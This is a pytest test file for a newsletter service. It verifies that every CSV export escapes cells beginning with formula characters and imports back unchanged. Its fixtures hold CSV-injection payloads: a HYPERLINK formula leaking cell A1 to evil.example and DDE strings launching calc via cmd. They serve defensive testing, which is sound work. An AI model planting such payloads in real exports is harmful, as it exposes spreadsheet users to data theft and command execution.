"""Exports are safe to open (issue 16, item 3): no CSV cell the service writes starts a spreadsheet
formula, and an export imports back to the same values.

Every export is opened with Python's csv reader and no cell may start with ``=``, ``+``, ``-``,
``@``, tab or CR (OWASP's CSV-injection list): the subscriber export (domain function and CLI),
the delivery log from the CLI, the API and the admin UI after a real send to hostile addresses
(the import report is written the same way: no module writes CSV but through
subscribers.csv_cells). Then each export is imported into a fresh list of a fresh database and
the values must be exactly the ones stored.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from newsletter.access import accounts
from newsletter.config import Settings
from newsletter.http.app import create_app
from newsletter.store import db
from newsletter.store.db import transaction
from newsletter.store.models import MailingList, Subscriber, Subscription
from subscribers import csv_cells, exporting, import_jobs, importing, lists
from subscribers.csv_cells import read_cell, safe_cell
from subscribers.directory import update_subscriber
from subscribers.subscriptions import add_subscriber
from tests.conftest import ROOT, Cli, clean_environ
from tests.textkit import must_match

#: What a spreadsheet evaluates at the start of a cell (OWASP), spelled out here, not imported.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

#: Subscribers whose address, name and attributes a spreadsheet would run, or nearly.
HOSTILE: list[tuple[str, str, dict[str, object]]] = [
    ("=1+2@example.com", '=HYPERLINK("https://evil.example/?"&A1,"Click")', {"city": "=1+1", "plan": "+SUM(1;2)"}),
    ("+tag@example.com", "+1", {"city": "-2+3+cmd|' /C calc'!A0", "note": "\t=1+1"}),
    ("-2+3@example.com", "-", {"city": "@SUM(1+1)*cmd|' /C calc'!A0", "note": "\r=1+1"}),
    ("'=quote@example.com", "'=already marked", {"city": "'@x", "count": "-1"}),
    ("plain@example.com", "Ann O'Neil", {"city": "Oslo", "=key": "==", "note": "'plain", "line": "ok\r=1+1"}),
]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_safe(text: str) -> list[list[str]]:
    """Every cell of the CSV ``text``, after checking that none starts a formula."""
    rows = cells(text)
    assert len(rows) > 1, text
    bad = [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]
    assert bad == [], f"cells a spreadsheet would evaluate: {bad}"
    return rows


def fresh_database(tmp_path: Path, name: str) -> sessionmaker[Session]:
    url = f"sqlite:///{tmp_path / name}.db"
    engine = db.make_engine(url)
    db.upgrade(engine)
    return db.session_factory(engine)


def stored(sessions: sessionmaker[Session]) -> dict[str, tuple[str, dict[str, object]]]:
    with sessions() as session:
        return {s.email: (s.name, dict(s.attributes or {})) for s in session.scalars(select(Subscriber))}


def add_hostile_subscribers(
    sessions: sessionmaker[Session], slug: str = "weekly"
) -> dict[str, tuple[str, dict[str, object]]]:
    with transaction(sessions) as session:
        lists.create_list(session, slug, name="Weekly", from_email="news@example.org")
        for email, name, attributes in HOSTILE:
            added = add_subscriber(session, slug, email, name=name, confirmed=True)
            update_subscriber(session, added.subscription.subscriber_id, attributes=attributes)
    expected = {email: (name, attributes) for email, name, attributes in HOSTILE}
    assert stored(sessions) == expected  # stored as given: the marks are only in files
    return expected


# --- the cell rule ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-", "'-"),
        ("==", "'=="),
        ("@", "'@"),  # made only of trigger characters: marked too
        ("'=x", "''=x"),
        ("''-1", "'''-1"),  # already starting with the mark: one more, so it reads back
        ("", ""),
        ("'", "'"),
        ("'x", "'x"),
        ("Ann", "Ann"),
        ("a=b", "a=b"),
        ("1-2", "1-2"),
        (" =1", " =1"),
        (None, ""),
        (7, "7"),
    ],
)
def test_a_cell_that_starts_a_formula_gets_a_leading_quote_and_reads_back(value, cell):
    assert safe_cell(value) == cell
    assert read_cell(cell) == ("" if value is None else str(value))


@given(st.text())
def test_any_text_is_written_safely_and_read_back_unchanged(text):
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_START)
    assert read_cell(cell) == text
    if not text.startswith("'"):
        assert read_cell(text) == text  # a file of one's own without marks imports as it is


@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), min_size=1, max_size=4), st.sampled_from(["\n", "\r\n"]))
def test_rows_written_by_the_safe_writer_read_back_cell_for_cell(rows, terminator):
    """Whatever the cells hold (a CR in the middle too), the csv reader finds the same rows, none of
    their cells starts a formula, and read_cell gives the values back."""
    out = io.StringIO(newline="")
    writer = csv_cells.writer(out, lineterminator=terminator)
    for row in rows:
        writer.writerow(row)
    read = cells(out.getvalue())
    assert not [cell for row in read for cell in row if cell.startswith(FORMULA_START)]
    assert [[read_cell(cell) for cell in row] for row in read] == rows


def test_every_csv_the_service_writes_goes_through_the_safe_writer():
    """No module writes CSV with the csv module directly: a new export cannot forget the rule."""
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for folder in ("newsletter", "subscribers")
        for path in sorted((ROOT / folder).rglob("*.py"))
        if path.name != "csv_cells.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


# --- subscribers ------------------------------------------------------------------------------------


def test_the_subscriber_export_is_safe_and_imports_back_to_the_same_values(sessions, tmp_path):
    expected = add_hostile_subscribers(sessions)
    out = io.StringIO()
    with transaction(sessions) as session:
        assert exporting.export_csv(session, "weekly", out) == len(HOSTILE)
    rows = assert_safe(out.getvalue())
    header = rows[0]
    assert header[:2] == ["email", "name"] and "'=key" in header
    by_email = {read_cell(row[0]): row for row in rows[1:]}
    assert by_email["=1+2@example.com"][1] == "'" + HOSTILE[0][1]
    assert by_email["'=quote@example.com"][0] == "''=quote@example.com"
    export = tmp_path / "export.csv"
    export.write_text(out.getvalue(), encoding="utf-8")

    # As `newsletter subscribers import` does it, into a fresh list of a fresh database.
    again = fresh_database(tmp_path, "again")
    with transaction(again) as session:
        lists.create_list(session, "copy", name="Copy", from_email="news@example.org")
        summary = importing.import_csv(session, "copy", export, confirmed=True)
    assert (summary.imported, summary.rejected) == (len(HOSTILE), 0)
    assert stored(again) == expected

    # As an upload in the admin UI or the API does it (an import job).
    uploaded = fresh_database(tmp_path, "uploaded")
    with transaction(uploaded) as session:
        lists.create_list(session, "copy", name="Copy", from_email="news@example.org")
        with export.open("rb") as data:
            job_id = import_jobs.create_job(session, "copy", "export.csv", data, var_dir=tmp_path / "var").id
    job = import_jobs.run_job(uploaded, job_id)
    assert (job.status, job.imported, job.rejected, job.error) == ("finished", len(HOSTILE), 0, None)
    assert stored(uploaded) == expected


def test_the_subscriber_export_of_the_cli_imports_back_with_the_cli(tmp_path):
    first = Cli(env=clean_environ(NEWSLETTER_VAR_DIR=str(tmp_path / "first")), cwd=tmp_path)
    first("db", "upgrade")
    first_sessions = db.session_factory(db.make_engine(f"sqlite:///{tmp_path / 'first' / 'newsletter.db'}"))
    expected = add_hostile_subscribers(first_sessions)
    export = tmp_path / "weekly.csv"
    assert f"Exported {len(HOSTILE)}" in first("subscribers", "export", "weekly", "-o", str(export)).stderr
    assert_safe(export.read_text(encoding="utf-8"))
    assert_safe(first("subscribers", "export", "weekly").stdout)

    second = Cli(env=clean_environ(NEWSLETTER_VAR_DIR=str(tmp_path / "second")), cwd=tmp_path)
    second("db", "upgrade")
    second("lists", "create", "copy", "--name", "Copy", "--from-email", "news@example.org")
    second("subscribers", "import", "copy", str(export), "--confirmed")
    assert stored(db.session_factory(db.make_engine(f"sqlite:///{tmp_path / 'second' / 'newsletter.db'}"))) == expected


# --- the delivery log -------------------------------------------------------------------------------

HOSTILE_RECIPIENTS = [
    "=1+2@example.com",
    "+tag@example.com",
    "-2+3@example.com",
    "'=quote@example.com",
    "plain@example.com",
]
LOG_COLUMNS = [
    "delivery_id",
    "email",
    "status",
    "attempts",
    "smtp_code",
    "smtp_reply",
    "message_id",
    "sent_at",
    "updated_at",
]


def log_rows(text: str) -> list[dict[str, str]]:
    """The CSV's rows, each cell read back as the import reads it."""
    rows = assert_safe(text)
    assert rows[0] == LOG_COLUMNS
    return [dict(zip(LOG_COLUMNS, (read_cell(c) for c in row), strict=True)) for row in rows[1:]]


def as_cells(deliveries: list[dict]) -> list[dict[str, str]]:
    """The JSON delivery log (CLI --json or the API's page) as the CSV writes its values."""
    return [
        {
            "delivery_id": str(d.get("delivery_id", d.get("id"))),
            "email": d["email"],
            "status": d["status"],
            "attempts": str(d["attempts"]),
            "smtp_code": str(d["smtp_code"] or ""),
            "smtp_reply": d["smtp_reply"] or "",
            "message_id": d["message_id"] or "",
        }
        for d in deliveries
    ]


def without_times(rows: list[dict[str, str]]) -> list[dict[str, str]]:
    return [{k: v for k, v in row.items() if k not in ("sent_at", "updated_at")} for row in rows]


def admin_login(client: TestClient, username: str, password: str) -> None:
    form = client.get("/admin/login")
    token = html.unescape(must_match(re.search(r'name="csrf_token" value="([^"]+)"', form.text)).group(1))
    answer = client.post("/admin/login", data={"username": username, "password": password, "csrf_token": token})
    assert answer.status_code == 303, answer.text


@pytest.mark.redis
@pytest.mark.slow
def test_the_delivery_log_is_safe_to_open_from_the_cli_the_api_and_the_admin_ui(newsroom, tmp_path):
    room = newsroom
    room.cli("lists", "create", "weekly", "--name", "Weekly", "--from-email", "news@example.org")
    people = tmp_path / "people.csv"
    with people.open("w", encoding="utf-8", newline="") as handle:  # as an export writes it: read back exactly
        csv_cells.writer(handle).writerows([["email", "name"], *([e, "=HYPERLINK(1)"] for e in HOSTILE_RECIPIENTS)])
    room.cli("subscribers", "import", "weekly", str(people), "--confirmed")
    room.capture.replies["-2+3@example.com"] = '550 5.1.1 =HYPERLINK("https://evil.example","Click")'
    issue_id = room.create_issue()
    room.start_worker(concurrency=1)
    send_id = room.send(issue_id)
    done = room.wait_status(send_id, ("finished", "paused"))
    assert (done["sent"], done["failed"]) == (4, 1), done

    truth = as_cells(json.loads(room.cli("sends", "log", send_id, "--json").stdout))
    assert sorted(row["email"] for row in truth) == sorted(HOSTILE_RECIPIENTS)

    from_cli = log_rows(room.cli("sends", "log", send_id, "--csv").stdout)
    assert without_times(from_cli) == truth

    settings = Settings.from_environ(room.cli.env)
    sessions = db.session_factory(db.make_engine(settings.database_url))
    with transaction(sessions) as session:
        _, secret = accounts.create_token(session, "exporter", "admin")
        accounts.create_user(session, "ann", "correct horse battery", "admin")
    with TestClient(
        create_app(settings, sessions=sessions), base_url="https://testserver", follow_redirects=False
    ) as client:
        bearer = {"Authorization": f"Bearer {secret}"}
        api_csv = client.get(f"/api/sends/{send_id}/deliveries.csv", headers=bearer)
        assert api_csv.status_code == 200, api_csv.text
        page = client.get(f"/api/sends/{send_id}/deliveries", headers=bearer).json()
        assert without_times(log_rows(api_csv.text)) == as_cells(page["items"]) == truth

        admin_login(client, "ann", "correct horse battery")
        admin_csv = client.get(f"/admin/sends/{send_id}/log.csv")
        assert admin_csv.status_code == 200, admin_csv.text
        assert without_times(log_rows(admin_csv.text)) == truth
    failed = next(row for row in from_cli if row["email"] == "-2+3@example.com")
    assert failed["status"] == "failed" and "=HYPERLINK(" in failed["smtp_reply"]

    # The import reads the delivery log back too: its addresses, exactly, into a fresh list.
    exported = tmp_path / "log.csv"
    exported.write_text(admin_csv.text, encoding="utf-8")
    room.cli("lists", "create", "again", "--name", "Again", "--from-email", "news@example.org")
    room.cli("subscribers", "import", "again", str(exported))
    with sessions() as session:
        listed = session.scalars(
            select(Subscriber.email).join(Subscription).join(MailingList).where(MailingList.slug == "again")
        ).all()
    assert sorted(listed) == sorted(HOSTILE_RECIPIENTS)
